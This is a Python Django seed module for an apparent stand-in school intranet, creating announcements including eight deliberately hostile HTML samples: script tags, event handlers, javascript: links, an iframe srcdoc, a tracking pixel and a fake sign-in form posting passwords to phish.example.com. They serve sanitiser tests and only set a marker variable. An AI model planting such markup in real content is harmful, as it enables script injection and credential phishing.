"""Seeded announcements: two pinned, one of every kind of hostile HTML, edge
cases, and enough daily bulletins that the list has a second page.

Hostile announcements set `window.__ionPagesHostile` if their markup runs,
so browser tests can check that nothing did. Other origins are under the
reserved example.com and example.org domains."""

import datetime

from django.contrib.auth.models import Group
from django.utils import timezone

from standin.announcements.models import Announcement

# Daily bulletins, one a day going back from yesterday. With the other
# announcements this makes more than one page of 50.
BULLETIN_COUNT = 45

HOSTILE_MARKER = "window.__ionPagesHostile"


def hostile_announcements(standin_origin: str) -> list[tuple[str, str]]:
    """(title, content) of each kind of markup a client must neutralise.
    Ion's own sanitiser allows <iframe> and <img>, and it cleans only web-form
    posts, so all of these can come from the API."""
    return [
        (
            "[hostile] script element",
            f'<p>Club fair today in the cafeteria.</p><script>{HOSTILE_MARKER} = "script";</script>',
        ),
        (
            "[hostile] event handler attributes",
            f'<img src="/no-such-image.png" alt="broken" onerror="{HOSTILE_MARKER} = \'onerror\'">'
            f'<p onclick="{HOSTILE_MARKER} = \'onclick\'">Click here for the bus changes.</p>',
        ),
        (
            "[hostile] javascript: links",
            f'<p><a href="javascript:{HOSTILE_MARKER} = \'javascript-url\'">Open the new schedule</a> or '
            f'<a href=" JaVaScRiPt:{HOSTILE_MARKER} = \'javascript-url-mixed-case\'">the old one</a>.</p>',
        ),
        (
            "[hostile] iframe",
            '<p>Watch the morning show:</p>'
            '<iframe src="https://video.example.com/embed/morning-show" width="560" height="315" frameborder="0" '
            'allowfullscreen></iframe>'
            f'<iframe srcdoc="&lt;script&gt;parent.{HOSTILE_MARKER} = \'srcdoc\'&lt;/script&gt;"></iframe>',
        ),
        (
            "[hostile] image from another origin",
            '<p>Spirit week photos are up.</p>'
            '<img src="https://tracker.example.org/pixel.gif?user=2027jdoe" alt="" width="1" height="1">',
        ),
        (
            "[hostile] image from the Ion origin",
            f'<p>New Ion logo:</p><img src="{standin_origin}/static/img/standin-logo.png" alt="Ion logo" '
            'style="width: 64px; height: 64px; float: right; margin: 4px">',
        ),
        (
            "[hostile] form",
            '<p>Your session expired. Sign in again:</p>'
            '<form action="https://phish.example.com/collect" method="post">'
            '<input type="text" name="username" placeholder="Ion username">'
            '<input type="password" name="password" placeholder="Ion password">'
            '<button type="submit">Sign in</button></form>',
        ),
        (
            "[hostile] style element",
            "<style>body { display: none !important; } * { color: red !important; }</style>"
            '<p style="position: fixed; top: 0; left: 0; width: 100%; height: 100%; background: white">'
            "This text covers the page.</p>",
        ),
    ]


def seed_announcements(users: dict, today: datetime.date, standin_origin: str) -> None:
    # Anchored to yesterday 17:00 Eastern, so that nothing is in the future.
    anchor = timezone.make_aware(datetime.datetime.combine(today - datetime.timedelta(days=1), datetime.time(17, 0)))
    admin = users["admin"]
    teacher = users["kwright"]

    def add(title, content, hours_ago, pinned=False, author=None, user=None, groups=(), updated_hours_ago=None):
        added = anchor - datetime.timedelta(hours=hours_ago)
        updated = added if updated_hours_ago is None else anchor - datetime.timedelta(hours=updated_hours_ago)
        announcement = Announcement.objects.create(
            title=title, content=content, author=author, user=user, added=added, updated=updated, pinned=pinned
        )
        announcement.groups.set(groups)
        return announcement

    add(
        "Welcome back! Read this first",
        "<p>Welcome to the new school year. <strong>Check your schedule</strong> and sign up for "
        '<a href="https://www.tjhsst.edu/" title="TJHSST">eighth period</a> by Tuesday.</p>'
        "<ul><li>Lockers open Monday</li><li>Bus passes at the main office</li></ul>",
        hours_ago=24 * 30,
        pinned=True,
        author="Ion Admin",
        user=admin,
        updated_hours_ago=24 * 2,
    )
    add(
        "Eighth-period sign-up deadline",
        "<p>Sign-ups close at <em>noon</em> on block days. Late changes go through the eighth-period office.</p>"
        "<blockquote>No sign-up means a Study Hall assignment.</blockquote>",
        hours_ago=24 * 40,
        pinned=True,
        author="Eighth Period Office",
        user=admin,
    )

    for index, (title, content) in enumerate(hostile_announcements(standin_origin)):
        add(title, content, hours_ago=2 + index, author="Kevin Wright", user=teacher)

    senior_group = Group.objects.get(name__startswith="Class of")
    add(
        f"{senior_group.name}: senior portraits",
        "<p>Senior portraits are Thursday in the library. Only seniors see this announcement.</p>",
        hours_ago=12,
        author="Casey Miller",
        user=users["cmiller"],
        groups=[senior_group],
    )
    add(
        "Announcement without an author",
        "<p>Posted by a service, so it has neither author nor user.</p>",
        hours_ago=13,
    )
    long_title = "Very long title: " + "the quick brown fox jumps over the lazy dog " * 3
    add(long_title[:127], "<p>The title is exactly 127 characters long, Ion's maximum.</p>", hours_ago=14, author="Ion Admin")
    add(
        "Café menu — naïve crème brûlée 🎉",
        "<p>Non-ASCII text: Zoë Ñúñez-Łukasiewicz, 日本語, العربية, emoji 🎉👍.</p>",
        hours_ago=15,
        author="Zoë Ñúñez-Łukasiewicz",
        user=users["2030znunez"],
    )
    add("Empty announcement", "", hours_ago=16, author="Ion Admin")
    with_fraction = add(
        "Added with microseconds",
        "<p>Its <code>added</code> time has a fractional second, which DRF writes out.</p>",
        hours_ago=17,
        author="Ion Admin",
    )
    Announcement.objects.filter(pk=with_fraction.pk).update(
        added=with_fraction.added.replace(microsecond=123456), updated=with_fraction.updated.replace(microsecond=123456)
    )

    for day in range(1, BULLETIN_COUNT + 1):
        date = today - datetime.timedelta(days=day)
        add(
            f"Daily bulletin for {date:%A, %B} {date.day}",
            f"<p>Bulletin number {day}: club meetings, lost and found, and reminders.</p>",
            hours_ago=24 * day + 20,
            author="Main Office",
        )
